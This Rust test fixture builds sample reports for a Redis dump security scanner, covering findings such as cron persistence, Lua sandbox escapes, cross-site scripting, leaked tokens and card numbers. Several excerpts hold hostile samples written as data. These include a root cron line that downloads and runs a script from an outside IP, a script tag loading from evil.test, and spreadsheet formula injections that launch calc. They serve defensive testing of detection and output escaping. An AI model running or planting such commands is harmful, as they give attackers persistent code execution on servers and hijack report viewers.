//! Reports of `scan` with every kind of finding, made by hand.

use crate::html::sample::HOSTILE;
use rediscover::report::*;
use std::collections::BTreeMap;

#[expect(clippy::unnecessary_wraps, reason = "fields want an option")]
fn name(bytes: &[u8]) -> Option<KeyName> {
    Some(KeyName::whole(bytes))
}

/// A finding of an attack in a string.
pub(crate) fn cron(key: &[u8]) -> Finding {
    Finding {
        rule: "RD-CRON-001".into(),
        rule_version: 2,
        title: "Cron line that downloads and runs".into(),
        severity: Threat::Critical,
        technique_severity: Threat::Critical,
        confidence: Confidence::High,
        category: Category::Attack,
        story: "Persistence by cron".into(),
        source: "dump.rdb".into(),
        db: Some(0),
        key: name(key),
        key_type: Some("string".into()),
        place: Where::Value,
        offset: Some(0x1f3a),
        match_offset: Some(2),
        match_bytes: Some(61),
        excerpt: r"\n\n*/3 * * * * root curl -fsSL http://203.0.113.9/i.sh | sh #DEFANGED\n\n".into(),
        matches: 1,
        fingerprint: Some("0123456789abcdef".into()),
        attack: vec!["T1053.003".into(), "T1105".into()],
        why: "A server that may write into the folder of cron turns this value into a job that runs as root; the blank lines \
              around it make it survive in the middle of a dump."
            .into(),
        advice: "Look into /etc/cron.d and /var/spool/cron of the server for files that begin with REDIS, and find out who \
                 could reach it."
            .into(),
        ..Finding::default()
    }
}

fn token(number: u64) -> Finding {
    Finding {
        rule: "RD-SEC-JWT".into(),
        rule_version: 1,
        title: "JSON web token".into(),
        severity: Threat::Medium,
        technique_severity: Threat::Medium,
        confidence: Confidence::High,
        category: Category::Secret,
        story: "Secrets in values".into(),
        source: "second.rdb".into(),
        db: Some(3),
        key: name(format!("session:{number:04}").as_bytes()),
        key_type: Some("hash".into()),
        expire_at: Some("2026-02-01T00:00:00.000Z".into()),
        place: Where::Value,
        element: Some(Locator { index: Some(1), field: name(b"token"), ..Locator::default() }),
        offset: Some(1000 + number * 90),
        match_offset: Some(0),
        match_bytes: Some(180),
        excerpt: "eyJh****<180 bytes>".into(),
        matches: 1,
        fingerprint: Some(format!("{number:016x}")),
        valid_until: Some("2026-01-03T00:00:00.000Z".into()),
        attack: vec!["T1539".into()],
        why: "Whoever holds it is logged in.".into(),
        advice: "Revoke the sessions.".into(),
        ..Finding::default()
    }
}

/// One of every kind.
fn kinds() -> Vec<Finding> {
    let from = |rule: &str, title: &str, severity, place| Finding {
        rule: rule.into(),
        rule_version: 1,
        title: title.into(),
        severity,
        technique_severity: severity,
        source: "dump.rdb".into(),
        place,
        offset: Some(77),
        match_offset: Some(0),
        match_bytes: Some(5),
        matches: 1,
        why: format!("Why {title}."),
        advice: format!("What to do about {title}."),
        ..Finding::default()
    };
    let mut all = vec![
        cron(b"backup1"),
        Finding {
            key: name(b"queue:7"),
            key_type: Some("list".into()),
            place: Where::Element,
            element: Some(Locator { index: Some(1_234), ..Locator::default() }),
            decoded_from: vec!["base64".into(), "gzip".into()],
            offset: Some(0x2_0000),
            matches: 3,
            notes: vec!["the job runs every 3 minutes".into()],
            ..cron(b"")
        },
        Finding {
            severity: Threat::High,
            technique_severity: Threat::Critical,
            confidence: Confidence::Attempted,
            notes: vec!["attempted, persistence not proven: redis 7.4.1 does not let clients set dir".into()],
            source: "second.rdb".into(),
            ..cron(b"crackit")
        },
        Finding {
            story: "Scripts that stay".into(),
            element: Some(Locator { name: name(b"lib\x1b[2J"), ..Locator::default() }),
            excerpt: "os.execute('id') --DEFANGED".into(),
            attack: vec!["T1059.011".into()],
            ..from("RD-LUA-002", "Function that runs programs", Threat::High, Where::Function)
        },
        Finding {
            story: "Replication to a stranger".into(),
            element: Some(Locator { name: name(b"repl-id"), ..Locator::default() }),
            excerpt: "0000000000000000000000000000000000000000".into(),
            ..from("RD-REP-003", "Replication id of zeros", Threat::Medium, Where::Aux)
        },
        Finding {
            story: "Scripts that stay".into(),
            source: "appendonlydir".into(),
            file: Some("appendonly.aof.1.incr.aof".into()),
            element: Some(Locator { name: name(b"EVAL"), argument: Some(1), ..Locator::default() }),
            at: Some("2026-01-01T12:00:00.000Z".into()),
            excerpt: "return redis.call('CONFIG') --DEFANGED".into(),
            ..from("RD-LUA-001", "Script with a sandbox escape", Threat::High, Where::Command)
        },
        Finding {
            story: "Attacks in the log".into(),
            source: "redis.log".into(),
            element: Some(Locator { line: Some(4711), ..Locator::default() }),
            at: Some("2026-01-01T11:59:59.123Z".into()),
            excerpt: "Possible SECURITY ATTACK detected".into(),
            ..from("RD-LOG-01", "HTTP spoken to the server", Threat::Low, Where::Log)
        },
        Finding {
            story: "Redis in disguise".into(),
            source: "mnt".into(),
            offset: Some(0),
            element: Some(Locator { name: name(b"etc/cron.d/root"), ..Locator::default() }),
            excerpt: "REDIS0011".into(),
            attack: vec!["T1053.003".into()],
            ..from("RD-TREE-001", "Dump in a folder of cron", Threat::Critical, Where::File)
        },
        Finding {
            story: "Ransom".into(),
            offset: None,
            match_offset: None,
            match_bytes: None,
            excerpt: "1 key in the dump, 3.1 GiB used by its server".into(),
            attack: vec!["T1485".into()],
            ..from("RD-RAN-002", "A keyspace that was emptied", Threat::High, Where::Structure)
        },
        Finding {
            story: "Personal data".into(),
            category: Category::Personal,
            db: Some(0),
            key: name(b"customers"),
            key_type: Some("set".into()),
            element: Some(Locator {
                index: Some(9),
                member_sha256: Some("00112233445566ff".into()),
                ..Locator::default()
            }),
            excerpt: "4***********1111 <16 bytes>".into(),
            ..from("RD-PII-CARD", "Card number", Threat::Medium, Where::Element)
        },
        Finding {
            story: "Cross-site scripting".into(),
            db: Some(1),
            key: name(b"events"),
            key_type: Some("stream".into()),
            element: Some(Locator {
                index: Some(0),
                field: name(b"body"),
                id: Some("1767225600000-0".into()),
                ..Locator::default()
            }),
            excerpt: "<script src=//evil.test/x.js>".into(),
            attack: vec!["T1189".into(), "T1059.007".into()],
            ..from("RD-XSS-001", "Script element in a value", Threat::Medium, Where::Value)
        },
        Finding {
            story: "Personal data".into(),
            category: Category::Personal,
            db: Some(3),
            structural: Some(Structural {
                prefix: "user:*".into(),
                keys: 9_000,
                of_keys: 10_000,
                samples: vec![KeyName::whole(b"user:1"), KeyName::whole(b"user:2"), KeyName::whole(b"user:\xff")],
            }),
            ..from("RD-PII-MAIL", "E-mail address", Threat::Info, Where::Value)
        },
        Finding {
            story: "Versions".into(),
            category: Category::Inventory,
            confidence: Confidence::Low,
            offset: Some(9),
            element: Some(Locator { name: name(b"redis-ver"), ..Locator::default() }),
            excerpt: "6.2.5".into(),
            notes: vec!["exposed to CVE-2022-0543 where Debian built it; distributions may have backported".into()],
            ..from("RD-VER-001", "Version with known holes", Threat::Info, Where::Aux)
        },
    ];
    all.extend((0..1_000).map(token));
    all.push(Finding {
        element: Some(Locator { index: Some(2), ..Locator::default() }),
        place: Where::Field,
        ..token(1_000)
    });
    all
}

fn order(mut findings: Vec<Finding>) -> Vec<Finding> {
    findings.sort_by_key(|finding| std::cmp::Reverse(finding.severity));
    findings
}

fn integrity(source: &str, kind: &str, verdict: Verdict) -> SourceIntegrity {
    let problem = Problem {
        file: None,
        line: None,
        severity: Severity::Error,
        offset: 0x9000,
        db: Some(3),
        key: name(b"user:\x1b[2J"),
        kind: "short".into(),
        doing: "read-object-value".into(),
        expected: None,
        found: None,
        message: "listpack claims 812 bytes, 640 remain".into(),
    };
    let problems = if verdict == Verdict::Intact { Vec::new() } else { vec![problem] };
    SourceIntegrity {
        source: source.into(),
        kind: kind.into(),
        verdict: Some(verdict),
        format_version: Some(11),
        server_version: Some("redis 7.4.1".into()),
        bytes: 1_234_567,
        created_at: (kind == "rdb").then(|| "2026-01-01T00:00:00.000Z".into()),
        log: None,
        integrity: Integrity {
            validated: Validated::All,
            checksum: Checksum { state: ChecksumState::Verified, stored: None, computed: None },
            problem_counts: problems.iter().map(|problem| (problem.kind.clone(), 1)).collect(),
            problems,
            trailing_bytes: 0,
        },
    }
}

pub(crate) fn report(findings: Vec<Finding>) -> ScanReport {
    let findings = order(findings);
    let mut by_severity: BTreeMap<Threat, u64> = Threat::ALL.into_iter().map(|threat| (threat, 0)).collect();
    let mut by_rule = BTreeMap::new();
    for finding in &findings {
        *by_severity.entry(finding.severity).or_default() += 1;
        *by_rule.entry(finding.rule.clone()).or_default() += 1;
    }
    let facts = |source: &str, kind: &str| SourceFacts {
        source: source.into(),
        kind: Some(kind.into()),
        bytes: 1_234_567,
        sha256: Some("ab".repeat(32)),
        ..SourceFacts::default()
    };
    ScanReport {
        schema: "rediscover/scan/v1".into(),
        provenance: Provenance {
            tool: "rediscover".into(),
            version: "0.0.0".into(),
            arguments: vec!["rediscover".into(), "scan".into(), "dump.rdb".into()],
            started: "2026-01-02T03:04:05.000Z".into(),
            ended: "2026-01-02T03:04:06.000Z".into(),
            sources: vec![facts("dump.rdb", "rdb")],
        },
        exit: Exit { code: 4, reasons: vec!["findings of severity high or graver".into()] },
        scan: Scan {
            summary: ScanSummary {
                by_severity,
                by_rule,
                rules: 120,
                keys: 412_345,
                texts: 2_000_000,
                bytes: 60 << 20,
                ..ScanSummary::default()
            },
            findings,
            exposure: Vec::new(),
            cannot_show: vec![
                "CONFIG SET, ACL, MODULE, REPLICAOF and EVAL leave nothing in an RDB: what was configured or run is not \
                 in it"
                    .into(),
                "keys that were deleted, or had expired, before the snapshot".into(),
            ],
        },
        integrity: vec![integrity("dump.rdb", "rdb", Verdict::Intact)],
    }
}

/// Every kind of finding in six sources, one of them damaged and one unread.
pub(crate) fn rich() -> ScanReport {
    let mut report = report(kinds());
    let facts = report.provenance.sources[0].clone();
    for (source, kind) in
        [("second.rdb", "rdb"), ("appendonlydir", "aof"), ("redis.log", "log"), ("mnt", "tree"), ("gone.rdb", "rdb")]
    {
        report.provenance.sources.push(SourceFacts { source: source.into(), kind: Some(kind.into()), ..facts.clone() });
    }
    report.provenance.sources[5] = SourceFacts {
        source: "gone.rdb".into(),
        error: Some("gone.rdb: cannot open: no such file or directory".into()),
        ..SourceFacts::default()
    };
    report.integrity.push(integrity("second.rdb", "rdb", Verdict::Damaged));
    report.integrity.push(integrity("appendonlydir", "aof", Verdict::Intact));
    let summary = &mut report.scan.summary;
    summary.suppressed = 3;
    summary.suppressed_by =
        vec![Suppressed { reason: "keys of the load test".into(), expires: Some("2026-12-01".into()), findings: 3 }];
    summary.known = 2;
    summary.not_listed = 1_500;
    summary.decoded_bytes = 34 << 10;
    summary.decodings_cut = 5;
    summary.not_scanned = 2;
    let exposed = |rule: &str, title: &str, keys, until: Option<&str>| Exposure {
        rule: rule.into(),
        title: title.into(),
        keys,
        distinct_values: keys - 1,
        distinct_estimated: keys > 65_536,
        prefixes: ["session:*", "user:*", "cart:*", "old:*"]
            .map(|prefix| ExposedPrefix { prefix: prefix.into(), keys: keys / 4 })
            .into(),
        unexpired: keys / 2,
        latest_expiry: until.map(Into::into),
    };
    report.scan.exposure = vec![
        exposed("RD-SEC-JWT", "JSON web token", 2_501, Some("2026-02-01T00:00:00.000Z")),
        exposed("RD-PII-MAIL", "E-mail address", 90_000, None),
        exposed("RD-PII-CARD", "Card number", 1, None),
    ];
    report
}

/// Nothing found.
pub(crate) fn clean() -> ScanReport {
    let mut report = report(Vec::new());
    report.exit = Exit::default();
    report
}

/// Whatever a page, a terminal, a sheet or a log could take for its own, in every field that comes from the input or from a
/// rule of others.
pub(crate) fn hostile() -> ScanReport {
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    let of = |(at, bytes): (usize, &&[u8])| {
        let severity = Threat::ALL[at % Threat::ALL.len()];
        Finding {
            severity,
            rule: format!("X-{at}"),
            title: text(bytes),
            story: text(bytes),
            why: text(bytes),
            advice: text(bytes),
            excerpt: text(bytes),
            notes: vec![text(bytes)],
            source: text(bytes),
            file: Some(text(bytes)),
            key_type: Some(text(bytes)),
            attack: vec![text(bytes)],
            decoded_from: vec![text(bytes)],
            element: Some(Locator {
                field: name(bytes),
                name: name(bytes),
                id: (at % 2 == 0).then(|| text(bytes)),
                ..Locator::default()
            }),
            structural: (at % 3 == 0).then(|| Structural {
                prefix: text(bytes),
                keys: 1,
                of_keys: 1,
                samples: vec![KeyName::whole(bytes)],
            }),
            place: [Where::Value, Where::Field, Where::Aux, Where::Function, Where::File, Where::Command][at % 6],
            fingerprint: Some(text(bytes)),
            ..cron(bytes)
        }
    };
    let formulas: [&[u8]; 6] =
        [b"=1+1", b"+cmd|' /C calc'!A0", b"@SUM(1)", b"-1", b"a,\"b\"\r\nc", b"[x](http://evil.test) {0}"];
    let names: Vec<&[u8]> = HOSTILE.iter().copied().chain(formulas).collect();
    let mut report = report(names.iter().enumerate().map(of).collect());
    let first = report.integrity[0].clone();
    report.provenance.sources =
        names.iter().map(|bytes| SourceFacts { source: text(bytes), ..report.provenance.sources[0].clone() }).collect();
    report.integrity = names.iter().map(|bytes| SourceIntegrity { source: text(bytes), ..first.clone() }).collect();
    report.scan.cannot_show = names.iter().map(|bytes| text(bytes)).collect();
    report.scan.summary.suppressed = 1;
    report.scan.summary.suppressed_by =
        names.iter().map(|bytes| Suppressed { reason: text(bytes), expires: Some(text(bytes)), findings: 1 }).collect();
    report.scan.exposure = names
        .iter()
        .map(|bytes| Exposure {
            rule: text(bytes),
            title: text(bytes),
            prefixes: vec![ExposedPrefix { prefix: text(bytes), keys: 1 }],
            keys: 1,
            unexpired: 1,
            latest_expiry: Some(text(bytes)),
            ..Exposure::default()
        })
        .collect();
    report
}
